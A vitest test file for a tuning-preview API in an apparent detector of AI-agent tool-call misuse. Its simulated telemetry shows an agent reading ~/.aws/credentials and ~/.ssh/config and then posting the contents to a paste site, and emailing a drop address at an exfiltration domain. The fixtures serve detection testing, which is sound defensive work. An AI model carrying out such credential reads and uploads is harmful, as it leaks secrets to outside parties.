import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { Alert, Page, TuningPreview } from '@palisade/schema';
import { PREVIEWS_AT_ONCE, TuningPreviewService } from '../src/services/tuning-preview.service.js';
import { type RunningDetector, startDetector } from './support/detector.harness.js';
import { SEND_EMAIL, TelemetryBuilder } from './support/telemetry.builder.js';

const READ_FILE = { name: 'read_file', description: 'Reads a file from the workspace.', inputSchema: { type: 'object', properties: { path: { type: 'string' } }, required: ['path'] } };
const HTTP_POST = { name: 'http_post', description: 'Posts a body to a URL.', inputSchema: { type: 'object', properties: { url: { type: 'string' }, body: { type: 'string' } }, required: ['url', 'body'] } };
const CREATE_PASTE = { name: 'create_paste', description: 'Creates a paste and returns its link.', inputSchema: { type: 'object', properties: { content: { type: 'string' } }, required: ['content'] } };
const PING = { name: 'ping', description: 'Checks that a host answers.', inputSchema: { type: 'object', properties: { host: { type: 'string' } }, required: ['host'] } };

const LIST_DIRECTORY = { name: 'list_directory', description: 'Lists a directory.', inputSchema: { type: 'object', properties: { path: { type: 'string' } }, required: ['path'] } };
const DELETE_FILE = { name: 'delete_file', description: 'Deletes a file.', inputSchema: { type: 'object', properties: { path: { type: 'string' } }, required: ['path'] } };

/** A site's own rule beside the pack: a sequence of two tools in one session, neither of which alerts alone. */
const SESSION_SEQUENCE_RULE = `id: site.list-then-delete
version: 1
title: Directory listed, then a file deleted, in one session
description: A model that surveys a directory and then deletes from it.
severity: medium
kind: temporal_ordered
timespan: 10m
group_by: [session]
steps:
  - name: listed
    where: { method: tools/call, tool: list_directory }
  - name: deleted
    where: { method: tools/call, tool: delete_file }
attribute_to: deleted
`;

const HOUR_MS = 3_600_000;
const MAX_EVENTS = 100;

describe('tuning preview: the alerts about a tool that depend on other tools, sessions and servers', () => {
  let detector: RunningDetector;
  const rulesDir = mkdtempSync(path.join(tmpdir(), 'palisade-rules-'));

  beforeAll(async () => {
    cpSync(path.resolve(import.meta.dirname, '../../../rules'), rulesDir, { recursive: true });
    writeFileSync(path.join(rulesDir, 'site-list-then-delete.yaml'), SESSION_SEQUENCE_RULE);
    detector = await startDetector({ PALISADE_AUTO_QUARANTINE: 'off', PALISADE_PREVIEW_MAX_EVENTS: String(MAX_EVENTS), PALISADE_RULES_DIR: rulesDir });
  });

  afterAll(async () => {
    await detector?.close();
    rmSync(rulesDir, { recursive: true, force: true });
  });

  const alertsAbout = (server: string, tool: string, category: string) =>
    detector.waitFor(async () => {
      const items = (await detector.api<Page<Alert>>('GET', `/api/alerts?server=${server}&tool=${tool}&category=${category}`)).body.items;
      return items.length > 0 ? items : undefined;
    }, `a ${category} alert about ${server}/${tool}`);

  const preview = async (server: string, tool: string, body: Record<string, unknown>) => {
    const response = await detector.api<TuningPreview>('POST', `/api/tools/${server}/${tool}/baseline/preview`, { body: { days: 1, ...body } });
    expect(response.status).toBe(200);
    return response.body;
  };

  it('previews muting correlation as removing an alert raised by a rule over a sequence of tools in a session', async () => {
    const files = new TelemetryBuilder('files', 'files-session', Date.now() - 2 * HOUR_MS);
    await detector.publish([
      files.initialize(),
      files.toolsList([LIST_DIRECTORY, DELETE_FILE]),
      files.call('list_directory', { path: '/srv/app/reports' }, 'q1.csv\nq2.csv'),
      files.call('delete_file', { path: '/srv/app/reports/q1.csv' }, 'deleted'),
    ]);
    const [recorded] = await alertsAbout('files', 'delete_file', 'correlation');
    expect(recorded!.ruleId).toBe('site.list-then-delete');

    const result = await preview('files', 'delete_file', { mutedDetectors: ['correlation'] });
    expect(result.current.byCategory.correlation).toBe(1);
    expect(result.proposed.byCategory.correlation).toBeUndefined();
    expect(result.removed).toBe(1);
    expect(result.examples.removed).toEqual([expect.objectContaining({ category: 'correlation', title: recorded!.title })]);
    expect(result.replayed).toMatchObject({ calls: 1, sessions: 1 });
    expect(result.notes).toEqual([]);

    // Muted, the rule raises nothing more; unmuting it previews what it would raise again, which no
    // recorded alert names: the other tool's call comes with the session.
    expect((await detector.api('PUT', '/api/tools/files/delete_file/baseline', { body: { mutedDetectors: ['correlation'] } })).status).toBe(200);
    const later = new TelemetryBuilder('files', 'files-later', Date.now() - HOUR_MS);
    await detector.publish([later.initialize(), later.call('list_directory', { path: '/srv/app/drafts' }, 'a.md'), later.call('delete_file', { path: '/srv/app/drafts/a.md' }, 'deleted')]);
    await detector.waitFor(async () => (await detector.api<Page<unknown>>('GET', '/api/events?session=files-later')).body.total === 3, 'the later session stored');
    expect((await detector.api<Page<Alert>>('GET', '/api/alerts?server=files&tool=delete_file&category=correlation')).body.total).toBe(1);

    const unmuted = await preview('files', 'delete_file', { mutedDetectors: [] });
    expect(unmuted.current.byCategory.correlation).toBeUndefined();
    expect(unmuted.added).toBe(2);
    expect(unmuted.examples.added.map((a) => a.category)).toEqual(['correlation', 'correlation']);
    expect(unmuted.replayed).toMatchObject({ calls: 2, sessions: 2 });
    expect(unmuted.notes).toEqual([]);
  });

  it('previews muting correlation as removing an alert raised by a rule over another server’s read', async () => {
    // One agent (the same client) reads a credential file on one server, then posts a secret through another.
    const start = Date.now() - 2 * HOUR_MS;
    const files = new TelemetryBuilder('workspace', 'workspace-session', start);
    const web = new TelemetryBuilder('web', 'web-session', start + 60_000);
    await detector.publish([
      files.initialize(),
      files.toolsList([READ_FILE]),
      files.call('read_file', { path: '/home/dev/.aws/credentials' }, '[default]\nregion = eu-west-1'),
      web.initialize(),
      web.toolsList([HTTP_POST]),
      web.call('http_post', { url: 'https://paste.example.org/new', body: '[REDACTED:aws_secret_key:5e6f7a8b9c0d]' }, 'ok', {
        'palisade.findings': [{ type: 'aws_secret_key', fingerprint: '5e6f7a8b9c0d', where: 'request', path: '/arguments/body' }],
      }),
    ]);
    const [recorded] = await alertsAbout('web', 'http_post', 'correlation');
    expect(recorded!.eventIds.length).toBeGreaterThan(1);

    const result = await preview('web', 'http_post', { mutedDetectors: ['correlation'] });
    expect(result.current.byCategory.correlation).toBeGreaterThanOrEqual(1);
    expect(result.proposed.byCategory.correlation).toBeUndefined();
    expect(result.removed).toBeGreaterThanOrEqual(1);
    expect(result.examples.removed.map((a) => a.category)).toContain('correlation');
    // Muting correlation removes exactly the correlation alerts, and adds none.
    expect(result).toMatchObject({ removed: result.current.byCategory.correlation, added: 0 });
    // The read on the other server was replayed with the tool's own call.
    expect(result.replayed.calls).toBe(1);
    expect(result.replayed.context).toBeGreaterThanOrEqual(1);
    expect(result.unreproduced.alerts).toBe(0);
    expect(result.limit).toEqual({ maxEvents: MAX_EVENTS, reached: false });
    expect(result.notes).toEqual([]);
  });

  it('previews muting cross_server_flow as removing the alert for content read from another server', async () => {
    const start = Date.now() - 2 * HOUR_MS;
    const vault = new TelemetryBuilder('vault', 'vault-session', start);
    const paste = new TelemetryBuilder('pastebin', 'pastebin-session', start + 30_000);
    const sshConfig = 'Host build-server\n  HostName build-7.internal.example\n  User deploy-automation\n  Port 2222';
    await detector.publish([
      vault.initialize(),
      vault.toolsList([READ_FILE]),
      vault.call('read_file', { path: '/home/dev/.ssh/config' }, sshConfig),
      paste.initialize(),
      paste.toolsList([CREATE_PASTE]),
      paste.call('create_paste', { content: `notes for later\nHostName build-7.internal.example\nUser deploy-automation` }, 'https://paste.example.org/p/1'),
    ]);
    const [flow] = await alertsAbout('pastebin', 'create_paste', 'cross_server_flow');
    expect(flow!.evidence.source).toMatchObject({ server: 'vault', tool: 'read_file' });

    const result = await preview('pastebin', 'create_paste', { mutedDetectors: ['cross_server_flow'] });
    expect(result.current.byCategory.cross_server_flow).toBe(1);
    expect(result.proposed.byCategory.cross_server_flow).toBeUndefined();
    expect(result.removed).toBeGreaterThanOrEqual(1);
    expect(result.examples.removed.map((a) => a.category)).toContain('cross_server_flow');
    expect(result.unreproduced.alerts).toBe(0);
    expect(result.notes).toEqual([]);

    // Nothing changed, nothing removed: the flow is in both replays.
    const same = await preview('pastebin', 'create_paste', {});
    expect(same).toMatchObject({ removed: 0, added: 0 });
    expect(same.current.byCategory.cross_server_flow).toBe(1);
  });

  it('states the limit on events replayed when it is reached, and from when the figures hold', async () => {
    const start = Date.now() - 3 * HOUR_MS;
    const bulk = new TelemetryBuilder('bulk', 'bulk-session', start);
    const events = [bulk.initialize(), bulk.toolsList([PING])];
    for (let i = 0; i < 150; i += 1) events.push(bulk.call('ping', { host: `node-${i % 5}.corp.example` }, 'up'));
    await detector.publish(events);
    await detector.waitFor(async () => (await detector.api<Page<unknown>>('GET', '/api/events?session=bulk-session')).body.total === events.length, 'the bulk session stored');

    const result = await preview('bulk', 'ping', { sensitivity: 2 });
    expect(result.limit).toEqual({ maxEvents: MAX_EVENTS, reached: true });
    expect(result.events).toBeLessThanOrEqual(MAX_EVENTS);
    expect(result.replayed.calls).toBeLessThan(150);
    expect(Date.parse(result.window.from)).toBeGreaterThan(start);
    expect(result.notes.join(' ')).toMatch(/limit of 100 events/);
    expect(result.notes.join(' ')).toContain(`from ${result.window.from} on`);
  });

  it('starts the replay from the baseline the tool learnt before the window, so its alerts are reproduced and each tuning judges them', async () => {
    // The baseline learnt two days ago; within a one-day window, a new recipient.
    const mail = new TelemetryBuilder('mailer', 'mailer-session', Date.now() - 2 * 24 * HOUR_MS);
    const learnt = [mail.initialize(), mail.toolsList([SEND_EMAIL])];
    for (let i = 0; i < 25; i += 1) learnt.push(mail.call('send_email', { to: `team${i % 3}@corp.example`, body: 'report' }, 'sent'));
    const late = new TelemetryBuilder('mailer', 'mailer-late', Date.now() - HOUR_MS);
    await detector.publish([...learnt, late.call('send_email', { to: 'drop@exfil-partner.example', body: 'report' }, 'sent')]);
    const [recorded] = await alertsAbout('mailer', 'send_email', 'recipient_change');

    const same = await preview('mailer', 'send_email', {});
    expect(same.current.byCategory.recipient_change).toBe(1);
    expect(same).toMatchObject({ added: 0, removed: 0, unreproduced: { alerts: 0 } });
    expect(same.replayed.calls).toBe(1);
    expect(same.seed).toEqual({ observations: 25, from: learnt[2]!.ts, to: learnt.at(-1)!.ts, before: same.window.from, cut: false });
    expect(same.notes).toEqual([]);

    // An allow-list entry for the recipient removes the alert.
    const allowed = await preview('mailer', 'send_email', { allowRecipients: ['drop@exfil-partner.example'] });
    expect(allowed.removed).toBe(1);
    expect(allowed.examples.removed).toEqual([expect.objectContaining({ category: 'recipient_change', title: recorded!.title })]);
    expect(allowed.unreproduced.alerts).toBe(0);

    // A warm-up larger than the 25 calls learnt leaves the baseline learning at the new call; one within them does not.
    const longer = await preview('mailer', 'send_email', { warmup: 26 });
    expect(longer.removed).toBe(1);
    expect(longer.proposed.byCategory.recipient_change).toBeUndefined();
    const within = await preview('mailer', 'send_email', { warmup: 25 });
    expect(within).toMatchObject({ added: 0, removed: 0 });
    expect(within.proposed.byCategory.recipient_change).toBe(1);
  });

  it('says in plain words when recorded alerts about the tool cannot be reproduced, rather than show them as untouched', async () => {
    // A warm-up of 120 calls, learnt two days ago from more calls than the seed holds (the limit, 100).
    const mail = new TelemetryBuilder('bulkmail', 'bulkmail-session', Date.now() - 2 * 24 * HOUR_MS);
    const learnt = [mail.initialize(), mail.toolsList([SEND_EMAIL])];
    for (let i = 0; i < 130; i += 1) learnt.push(mail.call('send_email', { to: `team${i % 3}@corp.example`, body: 'report' }, 'sent'));
    await detector.publish(learnt);
    await detector.waitFor(async () => (await detector.api<Page<unknown>>('GET', '/api/events?session=bulkmail-session')).body.total === learnt.length, 'the earlier calls stored');
    expect((await detector.api('PUT', '/api/tools/bulkmail/send_email/baseline', { body: { warmup: 120 } })).status).toBe(200);
    const late = new TelemetryBuilder('bulkmail', 'bulkmail-late', Date.now());
    await detector.publish([late.call('send_email', { to: 'drop@exfil-partner.example', body: 'report' }, 'sent')]);
    await alertsAbout('bulkmail', 'send_email', 'recipient_change');

    const result = await preview('bulkmail', 'send_email', { warmup: 120, mutedDetectors: ['recipient_change'] });
    expect(result.seed).toMatchObject({ observations: MAX_EVENTS, cut: true });
    expect(result.current.byCategory.recipient_change).toBeUndefined();
    expect(result.unreproduced.byCategory.recipient_change).toBeGreaterThanOrEqual(1);
    expect(result.unreproduced.mutedByProposal).toBeGreaterThanOrEqual(1);
    expect(result.notes.join(' ')).toContain(`The tool's baseline was started from only the newest 100 calls before ${result.window.from}`);
    expect(result.notes.join(' ')).toMatch(/recorded about this tool in this period \(.*recipient_change.*\) (was|were) not reproduced by the replay/);
    expect(result.notes.join(' ')).toMatch(/The proposed tuning mutes \d+ of them/);

    const unchanged = await preview('bulkmail', 'send_email', { warmup: 120, allowDomains: ['exfil-partner.example'] });
    expect(unchanged.unreproduced.mutedByProposal).toBe(0);
    expect(unchanged.notes.join(' ')).toMatch(/cannot be previewed/);
  });

  it('computes a bounded number of previews at once and answers one more with 429, so triage cannot starve the pipeline', async () => {
    // Each preview replays up to PALISADE_PREVIEW_MAX_EVENTS events through two engines on the API's thread.
    const b = new TelemetryBuilder('busy-previews');
    await detector.publish([b.initialize(), b.toolsList([PING]), b.call('ping', { host: 'example.com' })]);
    await detector.waitFor(async () => (await detector.api('GET', '/api/tools/busy-previews/ping')).status === 200, 'the tool seen');
    // Previews that take their time: each waits, mid-replay, until released.
    const service = detector.app.get(TuningPreviewService) as unknown as { learntSinceMs(server: string, tool: string): Promise<number> };
    const original = service.learntSinceMs.bind(service);
    let release!: () => void;
    const held = new Promise<void>((resolve) => (release = resolve));
    const started: number[] = [];
    const spy = vi.spyOn(service, 'learntSinceMs').mockImplementation(async (server, tool) => {
      started.push(started.length);
      await held;
      return original(server, tool);
    });
    try {
      const path = '/api/tools/busy-previews/ping/baseline/preview';
      const running = Array.from({ length: PREVIEWS_AT_ONCE }, () => detector.api<TuningPreview>('POST', path, { body: { days: 1 } }));
      await vi.waitFor(() => expect(started).toHaveLength(PREVIEWS_AT_ONCE), { timeout: 10_000 });
      const refused = await detector.api<{ error: { code: string; message: string } }>('POST', path, { body: { days: 1 } });
      expect(refused.status).toBe(429);
      expect(refused.body.error.message).toContain('preview');
      release();
      for (const response of await Promise.all(running)) expect(response.status).toBe(200);
      // Once they are done, the next one is computed.
      expect((await detector.api('POST', path, { body: { days: 1 } })).status).toBe(200);
    } finally {
      release();
      spy.mockRestore();
    }
  });

  it('documents the preview’s request and response in the OpenAPI document', async () => {
    type Operation = { requestBody: { content: Record<string, { schema: { properties: Record<string, unknown> } }> }; responses: Record<string, { content: Record<string, { schema: { properties: Record<string, { properties?: Record<string, unknown> }> } }> }> };
    const document = (await detector.api<{ paths: Record<string, { post: Operation }> }>('GET', '/api/openapi.json')).body;
    const operation = document.paths['/api/tools/{server}/{tool}/baseline/preview']!.post;
    expect(Object.keys(operation.requestBody.content['application/json']!.schema.properties)).toEqual(expect.arrayContaining(['days', 'mutedDetectors', 'allowDomains']));
    const response = operation.responses['200']!.content['application/json']!.schema.properties;
    expect(Object.keys(response)).toEqual(expect.arrayContaining(['events', 'replayed', 'seed', 'window', 'limit', 'current', 'proposed', 'added', 'removed', 'unreproduced', 'notes']));
    expect(Object.keys(response['limit']!.properties!)).toEqual(['maxEvents', 'reached']);
  });
});
